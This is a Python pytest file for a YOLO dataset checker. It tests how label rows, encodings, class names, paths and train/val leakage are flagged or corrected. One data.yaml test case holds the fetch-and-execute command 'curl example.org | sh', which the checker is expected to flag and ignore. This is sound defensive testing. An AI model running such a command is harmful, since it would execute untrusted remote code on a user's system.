"""The rows of the cases that concern YOLO, as `check` lists them: no more and no less."""

import pytest

from perdure.datasets.check import CheckResult, check
from perdure.datasets.rules import ImportRules
from tests.builders.datasets import ROW, picture, write_files, yolo_files

BOX = (0, 0.5, 0.5, 0.2, 0.4)
LABEL = "labels/0.txt"


def checked(tmp_path, files, **rules) -> CheckResult:
    return check(write_files(tmp_path / "set", files), ImportRules(**rules))


def told(result: CheckResult) -> list[tuple]:
    return [(f.code, str(f.severity), f.file, f.line, f.value) for f in result.findings]


@pytest.mark.parametrize(
    ("rows", "findings"),
    [
        # 9: neither number nor finite
        ("0 nan 0.5 0.2 0.4", [("label.not-finite", "error", 1, "nan")]),
        # 14: not an integer, negative, or not below the number of names
        ("0.5 0.5 0.5 0.2 0.4", [("label.class-out-of-range", "error", 1, "0.5")]),
        (f"{ROW}\n-1 0.5 0.5 0.2 0.4", [("label.class-out-of-range", "error", 2, "-1")]),
        ("1 0.5 0.5 0.2 0.4", [("label.class-out-of-range", "error", 1, "1")]),
        # 15: pixels
        (
            "0 320 240 0.2 0.4",
            [
                ("label.out-of-range", "error", 1, "320"),
                ("label.out-of-range", "error", 1, "240"),
            ],
        ),
        # 19: six fields
        (f"{ROW} 0.9", [("label.extra-field", "error", 1, f"{ROW} 0.9")]),
        # 23: no area
        ("0 0.5 0.5 0 0.4", [("label.degenerate-box", "error", 1, "0 0.5 0.5 0 0.4")]),
    ],
)
def test_rows_that_are_refused(tmp_path, rows, findings):
    result = checked(tmp_path, yolo_files(2) | {LABEL: rows})
    assert told(result) == [(code, said, LABEL, line, v) for code, said, line, v in findings]
    assert not result.ok


@pytest.mark.parametrize(
    ("rows", "findings", "boxes"),
    [
        # 16 and 17: commas
        (
            "0 0,5 0,5 0,2 0,4",
            [("label.decimal-comma", "warning", 1, "0 0,5 0,5 0,2 0,4")],
            [BOX],
        ),
        (
            "0,0.5,0.5,0.2,0.4",
            [("label.comma-separated", "warning", 1, "0,0.5,0.5,0.2,0.4")],
            [BOX],
        ),
        # 18: boxes and polygons in one file; the polygon is from 0.25 to 0.75 and 0.25 to 1
        (
            f"{ROW}\n0 0.25 0.5 0.75 0.25 0.5 1.0\n0 0.5 0.5 1 1\n",
            [("label.polygon-to-box", "info", 2, "0 0.25 0.5 0.75 0.25 0.5 1.0")],
            [BOX, (0, 0.5, 0.5, 1.0, 1.0), (0, 0.5, 0.625, 0.5, 0.75)],
        ),
        # 20: ends of lines of any system, blank lines, tabs and spaces anywhere
        (f"\r\n  {ROW}  \r\n\t\n", [], [BOX]),
        ("0\t0.5\t0.5\t0.2\t0.4\r", [], [BOX]),
        (
            b"\xef\xbb\xbf" + ROW.encode(),
            [("text.encoding", "info", None, "UTF-8 with a byte order mark")],
            [BOX],
        ),
        (
            b"\xff\xfe" + f"{ROW}\r\n".encode("utf-16-le"),
            [("text.encoding", "info", None, "UTF-16")],
            [BOX],
        ),
        # 22: twice
        (
            f"{ROW}\n\n0 .5 0.50 0.2 4e-1\n",
            [("label.duplicate", "info", 3, "0 .5 0.50 0.2 4e-1")],
            [BOX],
        ),
    ],
)
def test_rows_that_are_put_right(tmp_path, rows, findings, boxes):
    result = checked(tmp_path, yolo_files(2) | {LABEL: rows})
    assert told(result) == [(code, said, LABEL, line, v) for code, said, line, v in findings]
    assert list(result.manifest.images[0].boxes) == boxes


@pytest.mark.parametrize("sixth", ["confidence", "track"])
def test_a_sixth_field_is_left_out_where_the_user_says_what_it_is(tmp_path, sixth):
    result = checked(tmp_path, yolo_files(2) | {LABEL: f"{ROW} 0.9"}, sixth_field=sixth)
    assert result.errors == 0
    assert result.manifest.images[0].boxes == (BOX,)


def test_boxes_without_area_can_be_left_out(tmp_path):
    row = "0 0.5 0.5 0.2 0"
    files = yolo_files(2) | {LABEL: f"{ROW}\n{row}"}
    result = checked(tmp_path, files, drop_degenerate=True)
    assert told(result) == [("label.degenerate-box", "info", LABEL, 2, row)]
    assert result.manifest.images[0].boxes == (BOX,)


@pytest.mark.parametrize(
    ("config", "finding"),
    [
        # 24 and 25: names
        ("names: [bird, fox, owl]\n", ("classes.unused", "warning", None, "fox, owl")),
        ("train: images\nnames: {0: bird, 2: fox}\n", ("yaml.names", "error", 2, "")),
        ("names:\n  0: bear\n  1:bear\n", ("yaml.names", "error", 3, "1:bear")),
        # 26: where images lie
        ("train: ../images\nnames: [bird]\n", ("yaml.path", "info", 1, "../images")),
        ("train: gone\nnames: [bird]\n", ("yaml.path", "error", 1, "gone")),
        # 27 and 28
        (
            "names: [bird]\ndownload: curl example.org | sh\n",
            ("yaml.download-ignored", "warning", 2, "curl example.org | sh"),
        ),
        ("nc: 3\nnames: [bird]\n", ("yaml.nc-mismatch", "error", 1, "3")),
    ],
)
def test_what_data_yaml_says(tmp_path, config, finding):
    result = checked(tmp_path, yolo_files(2) | {"data.yaml": config})
    code, severity, line, value = finding
    assert told(result) == [(code, severity, "data.yaml", line, value)]
    assert result.ok is (severity != "error")


@pytest.mark.parametrize("names", ["[bird, fox]", "{0: bird, 1: fox}", "{1: fox, 0: bird}"])
def test_names_may_be_a_list_or_a_mapping(tmp_path, names):
    files = yolo_files(2) | {LABEL: "1 0.5 0.5 0.2 0.4", "data.yaml": f"names: {names}\n"}
    result = checked(tmp_path, files)
    assert (told(result), result.classes) == ([], ("bird", "fox"))


def test_a_path_that_could_mean_two_folders_is_refused(tmp_path):
    config = "path: ../birds\ntrain: images\nnames: [bird]\n"
    more = {"data.yaml": config, "birds/images/9.jpg": picture(9)}
    result = checked(tmp_path, yolo_files(2) | more)
    assert told(result) == [("yaml.path", "error", "data.yaml", 2, "../birds/images")]


def test_class_names_in_gb18030_are_recorded(tmp_path):
    files = yolo_files(2) | {"classes.txt": "鸟类\n".encode("gb18030")}
    del files["data.yaml"]
    result = checked(tmp_path, files)
    assert told(result) == [("text.encoding", "info", "classes.txt", None, "GB18030")]
    assert result.classes == ("鸟类",)


def test_two_images_of_one_label_file_are_refused(tmp_path):
    result = checked(tmp_path, yolo_files(2) | {"images/0.png": picture(9, kind="PNG")})
    assert told(result) == [
        ("files.stem-collision", "error", "images/0.png", None, "images/0.jpg"),
    ]


def test_labels_without_image_and_images_without_labels_are_warnings(tmp_path):
    files = yolo_files(3) | {"labels/9.txt": ROW}
    del files["labels/1.txt"]
    result = checked(tmp_path, files)
    assert told(result) == [
        ("files.background", "warning", "images/1.jpg", None, "1 of 3 images"),
        ("files.label-without-image", "warning", "labels/9.txt", None, ""),
    ]
    assert (result.ok, result.background) == (True, 1)


@pytest.mark.parametrize(("allowed", "severity"), [(False, "error"), (True, "warning")])
def test_one_image_in_train_and_in_val(tmp_path, allowed, severity):
    files = {
        "data.yaml": "train: images/train\nval: images/val\nnames: [bird]",
        "images/train/a.jpg": picture(1),
        "labels/train/a.txt": ROW,
        "images/val/b.jpg": picture(1),
        "labels/val/b.txt": ROW,
    }
    result = checked(tmp_path, files, allow_leakage=allowed)
    leak = ("split.leakage", severity, "images/val/b.jpg", None, "images/train/a.jpg")
    assert told(result) == [leak]
